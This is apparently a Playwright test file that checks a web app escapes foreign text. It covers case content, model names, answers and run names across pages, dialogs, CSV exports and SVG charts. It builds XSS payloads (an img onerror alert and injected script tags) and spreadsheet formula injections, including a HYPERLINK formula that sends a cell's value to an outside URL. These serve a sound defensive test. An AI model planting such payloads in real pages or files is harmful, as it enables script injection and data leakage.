import { expect, type Page, test } from "@playwright/test";
import { madeUpDocument } from "@/lib/families/episode/made-up-document";
import { signInAsAdmin } from "./admin";
import { answerTo, attemptWith, errorsOf, openAt, synced } from "./at-a-case";

/** Text of strangers (cases, models' names and answers, runs' names) is shown as text, everywhere, and runs nowhere. */

test.use({ locale: "en-GB", viewport: { width: 1280, height: 900 } });

const stamp = Date.now().toString(36);
const image = `<img src=x onerror=alert(1) data-foreign>`;
const markup = `${image}</script><script data-foreign>alert(2)</script>`;
const formula = `=HYPERLINK("http://example.org/?"&A1,"open")`;
/** Words by which a text is found again, with what must not work. */
const foreign = (words: string) => `${words} ${markup} ${formula}`;
const both = (words: string) => ({ en: foreign(words), zh: foreign(`${words}（中）`) });
/** A title is short. */
const title = `=1+1 Foreign title ${image}`;

/** Puts a case in whose every text is foreign. */
async function importForeign(page: Page, slug: string): Promise<void> {
  const document = madeUpDocument();
  const { episode, story, key } = document;
  Object.assign(episode, { slug, title: { en: title, zh: `${title}（中）` }, blurb: both("Foreign blurb") });
  Object.assign(episode, { question: both("Foreign question"), instructions: both("Foreign instructions") });
  Object.assign(episode, { scope: both("Foreign scope"), participantDefinition: both("Foreign definition") });
  for (const candidate of episode.candidates) candidate.description = both("Foreign neighbour");
  for (const language of ["en", "zh"] as const) {
    const sentences = story[language];
    if (sentences?.[0]) sentences[0] = `${sentences[0].slice(0, -1)} ${image}${sentences[0].slice(-1)}`;
  }
  for (const clue of Object.values(key.clues)) clue.note = both("Foreign note");
  for (const step of key.solution) Object.assign(step, { title: both("Foreign step"), text: both("Foreign reason") });
  const headers = { "content-type": "application/json" };
  const imported = await page.request.post("/api/v1/tasks", { data: JSON.stringify(document), headers });
  expect(imported.status(), await imported.text()).toBe(201);
}

/** Nothing of the foreign texts became an element; what is shown of them is text. */
async function isText(page: Page, words: string[]) {
  for (const one of words) {
    const text = page.getByText(one).filter({ visible: true }).first();
    await expect(text, `${page.url()} shows "${one}"`).toBeVisible();
  }
  expect(await page.locator("[data-foreign], [onerror], img[src='x']").count(), page.url()).toBe(0);
}

const opened = (page: Page) =>
  page.locator("details").evaluateAll((all) => {
    for (const details of all) details.setAttribute("open", "");
  });

test("markup and formulas in cases, names and answers are text on every page and in every file", async ({ page }) => {
  test.setTimeout(150_000);
  await signInAsAdmin(page);
  const errors = errorsOf(page);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const { request } = page;
  const slug = `foreign-${stamp}`;
  await importForeign(page, slug);

  const condition = { language: "en", presentation: "full" };
  const actor = { name: `=1+1 Foreign model ${image}`, modelId: `foreign-${stamp}` };
  const answer = {
    ...{ clues: ["S001", "S004"], participants: ["C01"], ruledOut: {}, participantReasons: {}, confidence: 30 },
    interpretations: { S001: foreign("Foreign meaning") },
    reconstruction: foreign("Foreign reconstruction"),
  };
  const stored = await request.post("/api/v1/responses", {
    data: [JSON.stringify(answer), foreign(`${formula}\nForeign refusal`)].map((raw, at) => ({
      ...{ task: slug, condition, actor, raw, epoch: at + 1 },
    })),
  });
  expect(stored.ok(), await stored.text()).toBe(true);
  const runName = `=1+1 Foreign run ${image} ${stamp}`;
  const plan = { name: runName, tasks: [slug], baselines: ["first"], conditions: [condition], epochs: 1 };
  const launched = await request.post("/api/v1/runs", { data: { plan } });
  expect(launched.ok(), await launched.text()).toBe(true);
  const { run } = await launched.json();
  const finished = async () => (await (await request.get(`/api/v1/runs/${run.id}`)).json()).status;
  await expect.poll(finished, { timeout: 60_000 }).toBe("done");

  const { attempts } = await (await request.get(`/api/v1/attempts?task=${slug}`)).json();
  expect(attempts.length).toBe(3);
  for (const attempt of attempts) {
    await page.goto(`/research/attempts/${attempt.id}`);
    await opened(page);
    await isText(page, [title, ...(attempt.run ? [runName] : [actor.name])]);
  }
  for (const [path, words] of [
    ["/research", [runName]],
    [`/research/runs/${run.id}`, [runName]],
    [`/research/attempts?task=${slug}`, [actor.name, title]],
    ["/research/launch", [slug]],
    ["/research/models", []],
    ["/insights", [title]],
    [`/insights/${slug}`, [title, actor.name]],
    [`/insights/${slug}?table=hits&table=selection&table=validity`, [actor.name]],
    ["/", [title, "Foreign blurb"]],
    [`/play/${slug}`, [title]],
  ] as [string, string[]][]) {
    expect((await page.goto(path))?.status(), path).toBe(200);
    await opened(page);
    await isText(page, words);
  }

  // Long words without a place to break them widen no page of a phone.
  await page.setViewportSize({ width: 320, height: 740 });
  for (const path of ["/", "/insights", `/insights/${slug}`, `/play/${slug}`, `/research/runs/${run.id}`]) {
    await page.goto(path);
    const over = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(over, `${path} scrolls sideways`).toBeLessThanOrEqual(0);
  }
  await page.setViewportSize({ width: 1280, height: 900 });

  await page.context().clearCookies({ name: /session-token/ });
  const begun = await attemptWith(page.context(), slug, { language: "en", presentation: "full" });
  await openAt(page, slug, begun.id);
  await expect(page.locator(".sentence").first()).toContainText(image);
  for (const name of ["Note", "Suspects", "Notebook", "Help"]) {
    await page.getByRole("button", { name, exact: true }).click();
    await expect(page.getByRole("dialog")).toBeVisible();
    await isText(page, name === "Help" ? ["Foreign question"] : []);
    await page.keyboard.press("Escape");
  }
  // An attempt of which the server has no move yet would be given out again.
  await synced(page);
  const answered = await attemptWith(page.context(), slug, { language: "en", presentation: "full" }, (body) => [
    { type: "submit", response: { ...answerTo(body), reconstruction: foreign("Foreign words of a person") } },
  ]);
  await openAt(page, slug, answered.id);
  await page.getByRole("button", { name: "See the solution" }).click();
  await expect(page.getByRole("heading", { name: "Points" })).toBeVisible();
  await opened(page);
  await isText(page, ["Foreign step", "Foreign reason", "Foreign words of a person"]);

  expect(dialogs).toEqual([]);
  expect(errors).toEqual([]);
});

test("files for spreadsheets hold no cell that is a formula; charts hold no markup", async ({ page }) => {
  await signInAsAdmin(page);
  const slug = `foreign-files-${stamp}`;
  await importForeign(page, slug);
  const actor = { name: formula.slice(0, 60), modelId: `formula-${stamp}` };
  const item = { task: slug, condition: { language: "en", presentation: "full" }, actor, raw: formula };
  const other = { ...item, actor: { name: image, modelId: `markup-${stamp}` }, raw: `@SUM(1)\r\n${formula}` };
  const stored = await page.request.post("/api/v1/responses", { data: [item, other] });
  expect(stored.ok(), await stored.text()).toBe(true);
  const plan = { name: `+1 ${stamp}`, tasks: [slug], baselines: ["first"], epochs: 1 };
  expect((await page.request.post("/api/v1/runs", { data: { plan } })).ok()).toBe(true);

  const csv = await (await page.request.get(`/api/v1/export?task=${slug}&format=csv`)).text();
  const hits = await (await page.request.get(`/insights/${slug}/download?panel=hits&format=csv`)).text();
  // A field of RFC 4180: quoted, or without any of the marks.
  const cells = [csv, hits].map((file) =>
    [...file.replace(/^\uFEFF/, "").matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
    ),
  );
  expect(cells[0]).toEqual(expect.arrayContaining([`'${formula}`, `'${actor.name}`, `'@SUM(1)\r\n${formula}`]));
  expect(cells[0]).toContain(`'+1 ${stamp}`);
  expect(cells[1]?.some((cell) => cell.startsWith(`'${actor.name}`))).toBe(true);
  for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);

  const chart = await (await page.request.get(`/insights/${slug}/download?panel=hits&format=svg`)).text();
  expect(chart).toContain("&lt;img");
  expect(chart).not.toMatch(/<img|<script|data-foreign>/);
});
